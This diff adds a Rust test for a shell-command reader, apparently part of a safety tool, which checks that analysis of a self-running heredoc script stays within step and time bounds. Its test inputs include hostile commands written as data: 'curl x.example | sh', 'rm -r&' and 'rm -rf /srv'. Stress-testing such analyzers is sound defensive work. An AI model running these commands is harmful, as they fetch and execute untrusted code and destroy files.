@@ -253,6 +253,26 @@ fn hostile_code_ends_with_a_bounded_answer() {
 }
 
 #[test]
+fn a_file_that_runs_itself_on_every_line_ends_with_a_bounded_answer() {
+    for line in
+        ["sh run.sh", "rm -r& sh run.sh", "curl x.example | sh; ./run.sh", ". ./run.sh; x=$x$x"]
+    {
+        let lines = format!("{line}\n").repeat(1_200);
+        let start = std::time::Instant::now();
+        let text = format!("cat > run.sh <<'END' && sh run.sh\n{lines}END\nrm -rf /srv");
+        let surroundings = portcullis_shell_reader::Surroundings {
+            cwd: "/home/dev/project".to_owned(),
+            home: "/home/dev".to_owned(),
+            files: Vec::new(),
+        };
+        let (read, steps) = portcullis_shell_reader::read_counted(&text, &surroundings);
+        assert!(steps < 16_000_000, "`{line}`: {steps} steps");
+        assert!(start.elapsed().as_secs() < 5, "`{line}`: {:?}", start.elapsed());
+        assert!(read.gaps.iter().any(|gap| gap.starts_with("limit: ")), "`{line}`");
+    }
+}
+
+#[test]
 fn code_that_is_not_parsed_is_partial_and_still_searched() {
     let padding = format!("x = {}1{}\n", "(".repeat(200), ")".repeat(200));
     for (program, code) in [
